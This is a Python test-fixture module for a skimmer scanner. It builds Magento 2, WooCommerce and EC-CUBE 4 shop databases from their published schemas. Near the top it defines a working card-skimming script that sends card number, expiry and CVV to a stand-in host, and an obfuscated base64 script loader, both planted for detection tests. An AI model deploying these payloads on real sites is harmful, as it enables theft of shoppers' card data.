"""Shop databases for the database-scan tests, built from the platforms' published schemas.

The tables are the ones skimmers hide in, with the columns (names, order, keys) of Magento 2's
``db_schema.xml``, WordPress's ``wp-admin/includes/schema.php`` and EC-CUBE 4's Doctrine entities.
Each builder creates them in a real database (SQLite always; PostgreSQL and MariaDB when
``SKIMGUARD_TEST_POSTGRES_URL`` / ``SKIMGUARD_TEST_MARIADB_URL`` are set: each test gets its own
database, dropped afterwards) and fills them with clean rows plus what the test plants.

Other test files import the builders and the ``backend_url`` fixture from here; the tests below
check that the builders produce what the scanner expects to read.
"""

from __future__ import annotations

import os
import secrets
import sqlite3
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import (
    BigInteger,
    Column,
    DateTime,
    Integer,
    MetaData,
    SmallInteger,
    String,
    Table,
    Text,
    create_engine,
    inspect,
    text,
)
from sqlalchemy.engine import make_url
from sqlalchemy.pool import NullPool

# A skimmer written for these tests: reads the card fields and sends them, base64, in an image URL.
SKIMMER = (
    '<script>document.addEventListener("change",function(){var f=document.querySelector('
    '"input[name*=cc_number],#card-number");if(!f)return;var d={n:f.value,e:document.querySelector('
    '"[name*=exp]").value,c:document.querySelector("[name*=cvv],[name*=cid]").value};var i=new Image;'
    'i.src="https://collect.evil.test/i.gif?d="+btoa(JSON.stringify(d))})</script>'
)
# A loader: an obfuscated script URL appended to the page (the engine finds it suspicious).
LOADER = (
    '<script>var s=document.createElement("script");s.src=atob("aHR0cHM6Ly9jZG4uZXZpbC50ZXN0L2xvYWRlci5qcw==");'
    "document.head.appendChild(s)</script>"
)
CLEAN_HEAD = '<link rel="stylesheet" type="text/css" media="all" href="{{MEDIA_URL}}styles.css" />'
CLEAN_FOOTER = "<p>&copy; 2025 Fumi Stationery. All rights reserved.</p>"
ANALYTICS = (
    "<script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments)}"
    "gtag('js',new Date());gtag('config','G-TEST123');</script>"
)

BACKENDS = ("sqlite", "postgresql", "mariadb")
_ENV = {"postgresql": "SKIMGUARD_TEST_POSTGRES_URL", "mariadb": "SKIMGUARD_TEST_MARIADB_URL"}


# ---------------------------------------------------------------------------------------------
# databases
# ---------------------------------------------------------------------------------------------


def server_url(backend: str) -> str | None:
    return os.environ.get(_ENV[backend]) if backend in _ENV else None


@pytest.fixture(params=BACKENDS)
def backend_url(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[str]:
    """The URL of a fresh, empty database on each backend (skipped when its URL is not set)."""
    backend: str = request.param
    if backend == "sqlite":
        path = tmp_path / "shop.db"
        sqlite3.connect(path).close()
        yield f"sqlite:///{path}"
        return
    base = server_url(backend)
    if not base:
        pytest.skip(f"{_ENV[backend]} is not set: no {backend} server to test against")
    with fresh_database(base) as url:
        yield url


@contextmanager
def fresh_database(base: str) -> Iterator[str]:
    """A new database on the server of ``base`` (PostgreSQL or MariaDB/MySQL), dropped on exit."""
    server = make_url(base)
    name = f"sg_db_{secrets.token_hex(4)}"
    admin = create_engine(server, isolation_level="AUTOCOMMIT", poolclass=NullPool)
    try:
        with admin.connect() as conn:
            conn.execute(text(f"CREATE DATABASE {name}"))
        yield server.set(database=name).render_as_string(hide_password=False)
    finally:
        force = " WITH (FORCE)" if server.get_backend_name() == "postgresql" else ""
        with admin.connect() as conn:
            conn.execute(text(f"DROP DATABASE IF EXISTS {name}{force}"))
        admin.dispose()


def fill(url: str, metadata: MetaData, rows: Mapping[str, list[dict[str, Any]]]) -> None:
    """Create the tables and insert the rows (every row of a table must name the same columns:
    an executemany takes them from the first)."""
    for name, values in rows.items():
        assert all(v.keys() == values[0].keys() for v in values), name
    engine = create_engine(url, poolclass=NullPool)
    try:
        metadata.create_all(engine)
        with engine.begin() as conn:
            for name, values in rows.items():
                if values:
                    conn.execute(metadata.tables[name].insert(), values)
    finally:
        engine.dispose()


# ---------------------------------------------------------------------------------------------
# Magento 2 (app/code/Magento/Config/etc/db_schema.xml, Magento/Cms/etc/db_schema.xml)
# ---------------------------------------------------------------------------------------------


def magento2_metadata(prefix: str = "") -> MetaData:
    md = MetaData()
    Table(
        f"{prefix}core_config_data",
        md,
        Column("config_id", Integer, primary_key=True, autoincrement=False),
        Column("scope", String(8), nullable=False, default="default"),
        Column("scope_id", Integer, nullable=False, default=0),
        Column("path", String(255), nullable=False, default="general"),
        Column("value", Text),
        Column("updated_at", DateTime),
    )
    Table(
        f"{prefix}cms_block",
        md,
        Column("block_id", SmallInteger, primary_key=True, autoincrement=False),
        Column("title", String(255), nullable=False),
        Column("identifier", String(255), nullable=False),
        Column("content", Text),
        Column("creation_time", DateTime),
        Column("update_time", DateTime),
        Column("is_active", SmallInteger, nullable=False, default=1),
    )
    Table(
        f"{prefix}cms_page",
        md,
        Column("page_id", SmallInteger, primary_key=True, autoincrement=False),
        Column("title", String(255)),
        Column("page_layout", String(255)),
        Column("meta_keywords", Text),
        Column("meta_description", Text),
        Column("identifier", String(100)),
        Column("content_heading", String(255)),
        Column("content", Text),
        Column("is_active", SmallInteger, nullable=False, default=1),
        Column("layout_update_xml", Text),
        Column("custom_layout_update_xml", Text),
        Column("meta_title", String(255)),
    )
    Table(
        f"{prefix}setup_module",
        md,
        Column("module", String(50), primary_key=True),
        Column("schema_version", String(50)),
        Column("data_version", String(50)),
    )
    return md


def build_magento2(url: str, *, footer: str = CLEAN_FOOTER, head: str = CLEAN_HEAD, prefix: str = "") -> None:
    """A Magento 2 shop: base URLs, head includes, the absolute footer, a CMS block and page."""
    fill(
        url,
        magento2_metadata(prefix),
        {
            f"{prefix}core_config_data": [
                {"config_id": 1, "path": "web/unsecure/base_url", "value": "https://shop.test/"},
                {"config_id": 2, "path": "web/secure/base_url", "value": "https://shop.test/"},
                {"config_id": 3, "path": "design/head/includes", "value": head},
                {"config_id": 4, "path": "design/footer/absolute_footer", "value": footer},
                {"config_id": 5, "path": "design/head/default_title", "value": "Fumi Stationery"},
                {"config_id": 6, "path": "payment/checkmo/active", "value": "1"},
            ],
            f"{prefix}cms_block": [
                {
                    "block_id": 1,
                    "title": "Footer links",
                    "identifier": "footer_links_block",
                    "content": '<ul class="footer links"><li class="nav item"><a href="{{store url="about-us"}}">'
                    "About us</a></li></ul>",
                }
            ],
            f"{prefix}cms_page": [
                {
                    "page_id": 1,
                    "title": "Home page",
                    "page_layout": "1column",
                    "identifier": "home",
                    "content_heading": "Home Page",
                    "content": '<p>Welcome to Fumi Stationery.</p><p><img src="{{media url="wysiwyg/pen.jpg"}}" '
                    'alt="pen"></p>',
                }
            ],
            f"{prefix}setup_module": [{"module": "Magento_Cms", "schema_version": "2.0.7", "data_version": "2.0.7"}],
        },
    )


# ---------------------------------------------------------------------------------------------
# WordPress / WooCommerce (wp-admin/includes/schema.php)
# ---------------------------------------------------------------------------------------------


def wordpress_metadata(prefix: str = "wp_") -> MetaData:
    md = MetaData()
    Table(
        f"{prefix}options",
        md,
        Column("option_id", BigInteger, primary_key=True, autoincrement=False),
        Column("option_name", String(191), nullable=False, unique=True),
        Column("option_value", Text, nullable=False),
        Column("autoload", String(20), nullable=False, default="yes"),
    )
    Table(
        f"{prefix}posts",
        md,
        Column("ID", BigInteger, primary_key=True, autoincrement=False),
        Column("post_author", BigInteger, nullable=False, default=0),
        Column("post_date", DateTime),
        Column("post_content", Text, nullable=False),
        Column("post_title", Text, nullable=False),
        Column("post_excerpt", Text, nullable=False),
        Column("post_status", String(20), nullable=False, default="publish"),
        Column("post_name", String(200), nullable=False, default=""),
        Column("post_type", String(20), nullable=False, default="post"),
    )
    return md


def php_serialize(value: Any) -> str:
    """PHP's serialize() for the str/int/bool/dict values WordPress widgets use."""
    if isinstance(value, bool):
        return f"b:{int(value)};"
    if isinstance(value, int):
        return f"i:{value};"
    if isinstance(value, str):
        return f's:{len(value.encode("utf-8"))}:"{value}";'
    items = "".join(php_serialize(k) + php_serialize(v) for k, v in value.items())
    return f"a:{len(value)}:{{{items}}}"


def text_widget(text_html: str) -> str:
    """A ``widget_text`` option: one Text widget (number 2) holding ``text_html``."""
    return php_serialize(
        {2: {"title": "Secure checkout", "text": text_html, "filter": True, "visual": True}, "_multiwidget": 1}
    )


def build_woocommerce(url: str, *, widget: str = CLEAN_FOOTER, prefix: str = "wp_") -> None:
    """A WooCommerce shop: site options, a Text widget, the checkout page and a post."""
    fill(
        url,
        wordpress_metadata(prefix),
        {
            f"{prefix}options": [
                {"option_id": 1, "option_name": "siteurl", "option_value": "https://shop.test"},
                {"option_id": 2, "option_name": "home", "option_value": "https://shop.test"},
                {"option_id": 3, "option_name": "blogname", "option_value": "Fumi Stationery"},
                {"option_id": 4, "option_name": "woocommerce_checkout_page_id", "option_value": "7"},
                {"option_id": 5, "option_name": "widget_text", "option_value": text_widget(widget)},
                {
                    "option_id": 6,
                    "option_name": "sidebars_widgets",
                    "option_value": php_serialize({"sidebar-1": {0: "text-2"}, "array_version": 3}),
                },
            ],
            f"{prefix}posts": [
                {
                    "ID": 7,
                    "post_content": "<!-- wp:shortcode -->[woocommerce_checkout]<!-- /wp:shortcode -->",
                    "post_title": "Checkout",
                    "post_excerpt": "",
                    "post_name": "checkout",
                    "post_type": "page",
                },
                {
                    "ID": 9,
                    "post_content": "<p>New fountain pens are in.</p>" + ANALYTICS,
                    "post_title": "News",
                    "post_excerpt": "",
                    "post_name": "news",
                    "post_type": "post",
                },
            ],
        },
    )


# ---------------------------------------------------------------------------------------------
# EC-CUBE 4 (src/Eccube/Entity/Page.php, Layout.php, Block.php, Plugin.php)
# ---------------------------------------------------------------------------------------------


def eccube4_metadata() -> MetaData:
    md = MetaData()
    Table(
        "dtb_page",
        md,
        Column("id", Integer, primary_key=True, autoincrement=False),
        Column("master_page_id", Integer),
        Column("page_name", String(255)),
        Column("url", String(255), nullable=False),
        Column("file_name", String(255)),
        Column("edit_type", SmallInteger, nullable=False, default=1),
        Column("author", String(255)),
        Column("description", String(255)),
        Column("keyword", String(255)),
        Column("create_date", DateTime),
        Column("update_date", DateTime),
        Column("meta_robots", String(255)),
        Column("meta_tags", String(4000)),
        Column("discriminator_type", String(255), nullable=False, default="page"),
    )
    Table(
        "dtb_layout",
        md,
        Column("id", Integer, primary_key=True, autoincrement=False),
        Column("device_type_id", SmallInteger),
        Column("layout_name", String(255)),
        Column("discriminator_type", String(255), nullable=False, default="layout"),
    )
    Table(
        "dtb_block",
        md,
        Column("id", Integer, primary_key=True, autoincrement=False),
        Column("device_type_id", SmallInteger),
        Column("block_name", String(255)),
        Column("file_name", String(255), nullable=False),
        Column("use_controller", SmallInteger, nullable=False, default=0),
        Column("deletable", SmallInteger, nullable=False, default=1),
        Column("discriminator_type", String(255), nullable=False, default="block"),
    )
    Table(
        "dtb_plugin",
        md,
        Column("id", Integer, primary_key=True, autoincrement=False),
        Column("name", String(255), nullable=False),
        Column("code", String(255), nullable=False),
        Column("enabled", SmallInteger, nullable=False, default=0),
        Column("version", String(255), nullable=False),
        Column("source", String(255), nullable=False),
        Column("initialized", SmallInteger, nullable=False, default=0),
        Column("discriminator_type", String(255), nullable=False, default="plugin"),
    )
    return md


def build_eccube4(url: str, *, payment_meta: str = '<meta name="format-detection" content="telephone=no">') -> None:
    """An EC-CUBE 4 shop: front pages (the payment step's meta tags planted), layouts, blocks,
    a plugin."""
    fill(
        url,
        eccube4_metadata(),
        {
            "dtb_page": [
                {
                    "id": 1,
                    "page_name": "TOPページ",
                    "url": "homepage",
                    "file_name": "index",
                    "edit_type": 2,
                    "meta_robots": None,
                    "meta_tags": None,
                },
                {
                    "id": 12,
                    "page_name": "商品購入",
                    "url": "shopping",
                    "file_name": "Shopping/index",
                    "edit_type": 2,
                    "meta_robots": "noindex",
                    "meta_tags": payment_meta,
                },
            ],
            "dtb_layout": [
                {"id": 1, "device_type_id": 10, "layout_name": "トップページ用レイアウト"},
                {"id": 2, "device_type_id": 10, "layout_name": "下層ページ用レイアウト"},
            ],
            "dtb_block": [
                {"id": 1, "device_type_id": 10, "block_name": "カート", "file_name": "cart"},
                {"id": 10, "device_type_id": 10, "block_name": "フッター", "file_name": "footer"},
            ],
            "dtb_plugin": [
                {
                    "id": 1,
                    "name": "おすすめ商品管理プラグイン",
                    "code": "Recommend42",
                    "enabled": 1,
                    "version": "4.2.1",
                    "source": "1910",
                    "initialized": 1,
                },
            ],
        },
    )


# ---------------------------------------------------------------------------------------------
# the builders, checked
# ---------------------------------------------------------------------------------------------


def test_builders_create_the_published_tables(backend_url: str) -> None:
    build_magento2(backend_url)
    build_woocommerce(backend_url)
    build_eccube4(backend_url)
    engine = create_engine(backend_url, poolclass=NullPool)
    try:
        names = set(inspect(engine).get_table_names())
        with engine.connect() as conn:
            widget = conn.execute(
                text("SELECT option_value FROM wp_options WHERE option_name = 'widget_text'")
            ).scalar()
    finally:
        engine.dispose()
    assert names == {
        "core_config_data", "cms_block", "cms_page", "setup_module", "wp_options", "wp_posts",
        "dtb_page", "dtb_layout", "dtb_block", "dtb_plugin",
    }  # fmt: skip
    assert widget == text_widget(CLEAN_FOOTER)


def test_php_serialize_counts_bytes_like_php() -> None:
    assert (
        php_serialize({2: {"text": "é"}, "_multiwidget": 1})
        == 'a:2:{i:2;a:1:{s:4:"text";s:2:"é";}s:12:"_multiwidget";i:1;}'
    )
